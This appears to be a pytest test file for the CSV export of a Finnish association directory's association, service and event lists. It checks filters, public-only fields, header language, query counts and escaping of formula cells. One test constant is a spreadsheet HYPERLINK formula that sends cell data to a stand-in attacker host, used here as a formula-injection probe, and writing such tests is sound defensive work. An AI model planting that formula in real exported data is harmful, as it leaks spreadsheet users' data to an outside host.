""" "Lataa CSV" on the directory, services and events lists: the list's filters, public fields
only, formula cells escaped, headers in the page's language, fixed query counts."""

import csv
import io

import pytest

from directory.models import Registration

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def column(table, name) -> list[str]:
    index = table[0].index(name)
    return [row[index] for row in table[1:]]


def test_directory_csv_takes_the_filters(client, make_association):
    make_association("Heinolan Kuoro ry", municipality="heinola", themes=["mielen-hyvinvointi"],
                     email="kuoro@example.fi", operating_municipalities=["heinola"])  # fmt: skip
    make_association("Lahden Martat ry", operating_municipalities=["lahti"])
    make_association("Luonnos ry", status="draft", operating_municipalities=["heinola"])
    table = rows(client.get("/yhdistykset/lataa.csv"))
    assert column(table, "Nimi") == ["Heinolan Kuoro ry", "Lahden Martat ry"]
    table = rows(client.get("/yhdistykset/lataa.csv", {"municipality": "heinola"}))
    assert column(table, "Nimi") == ["Heinolan Kuoro ry"]
    assert column(table, "HYTE-teemat") == ["Mielen hyvinvointi"]
    assert column(table, "Sähköposti") == ["kuoro@example.fi"]
    assert column(table, "Sivu Päijäthämäläiset.fi:ssä") == [
        "http://testserver/yhdistykset/heinolan-kuoro-ry/"
    ]
    assert rows(client.get("/yhdistykset/lataa.csv", {"q": "martat"}))[1][0] == "Lahden Martat ry"


def test_formula_cells_are_escaped(client, make_association, make_service, make_event):
    association = make_association(HOSTILE, short_description="+SUM(1;2)", phone="+358 3 123")
    make_service("@komento", association=association, short_description="-1+1")
    make_event("\tTab", association=association, summary="\rCR alku")
    table = rows(client.get("/yhdistykset/lataa.csv"))
    assert column(table, "Nimi") == ["'" + HOSTILE]
    assert column(table, "Lyhyt kuvaus") == ["'+SUM(1;2)"]
    assert column(table, "Puhelin") == ["'+358 3 123"]
    services = rows(client.get("/palvelut/lataa.csv"))
    assert column(services, "Otsikko") == ["'@komento"]
    assert column(services, "Lyhyt kuvaus") == ["'-1+1"]
    assert column(services, "Järjestäjä") == ["'" + HOSTILE]
    events = rows(client.get("/tapahtumat/lataa.csv"))
    assert column(events, "Otsikko") == ["'\tTab"]
    assert column(events, "Tiivistelmä") == ["'\rCR alku"]
    for table in (services, events):
        for row in table[1:]:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_only_public_fields(client, make_association):
    from django.utils import timezone

    association = make_association(email="info@example.fi")
    Registration.objects.create(
        association=association,
        contact_name="Maija Yksityinen",
        contact_email="maija.yksityinen@example.fi",
        consent_at=timezone.now(),
    )
    body = client.get("/yhdistykset/lataa.csv").content.decode()
    assert "info@example.fi" in body
    assert "maija" not in body.casefold()


@pytest.mark.parametrize(("prefix", "name"), [("", "Nimi"), ("/sv", "Namn"), ("/en", "Name")])
def test_headers_in_the_page_language(client, make_association, prefix, name):
    make_association()
    assert rows(client.get(f"{prefix}/yhdistykset/lataa.csv"))[0][0] == name


def test_services_and_events_csv(client, make_association, make_service, make_event):
    association = make_association()
    make_service("Muistikahvila", association=association, is_free=True, municipalities=["lahti"])
    make_service("Kuntosali", association=association, cost="5 €", municipalities=["heinola"])
    make_event("Kevätkonsertti", association=association, municipality="heinola")
    make_event("Luento", association=association, municipality="lahti")
    services = rows(client.get("/palvelut/lataa.csv", {"free": "1"}))
    assert column(services, "Otsikko") == ["Muistikahvila"]
    assert column(services, "Maksuton") == ["kyllä"]
    events = rows(client.get("/tapahtumat/lataa.csv", {"municipality": "heinola"}))
    assert column(events, "Otsikko") == ["Kevätkonsertti"]
    assert column(events, "Järjestäjä") == [association.name]
    assert rows(client.get("/tapahtumat/menneet/lataa.csv"))[1:] == []
    # A malformed date is ignored, as on the list.
    assert len(rows(client.get("/tapahtumat/lataa.csv", {"start": "eilen"}))) == 3


def test_lists_link_to_their_csv(client, make_association, make_service, make_event):
    association = make_association(operating_municipalities=["lahti"])
    make_service(association=association, municipalities=["lahti"])
    make_event(association=association)
    for path, csv_path in [("/yhdistykset/", "/yhdistykset/lataa.csv"),
                           ("/palvelut/", "/palvelut/lataa.csv"),
                           ("/tapahtumat/", "/tapahtumat/lataa.csv")]:  # fmt: skip
        page = client.get(path, {"municipality": "lahti", "page": "1"}).content.decode()
        assert f'href="{csv_path}?municipality=lahti"' in page
        assert "Lataa CSV" in page


@pytest.mark.parametrize("size", [2, 20])
def test_query_counts(client, make_association, make_service, make_event,
                      django_assert_num_queries, size):  # fmt: skip
    for number in range(size):
        association = make_association(f"Yhdistys {number}", themes=["mielen-hyvinvointi"])
        make_service(f"Palvelu {number}", association=association, themes=["mielen-hyvinvointi"])
        make_event(f"Tapahtuma {number}", association=association, themes=["mielen-hyvinvointi"])
    # The vocabularies, the rows and one query per relation the columns read.
    for path, queries in [("/yhdistykset/lataa.csv", 8), ("/palvelut/lataa.csv", 7),
                          ("/tapahtumat/lataa.csv", 5)]:  # fmt: skip
        with django_assert_num_queries(queries):
            assert len(rows(client.get(path, {"theme": "mielen-hyvinvointi"}))) == size + 1
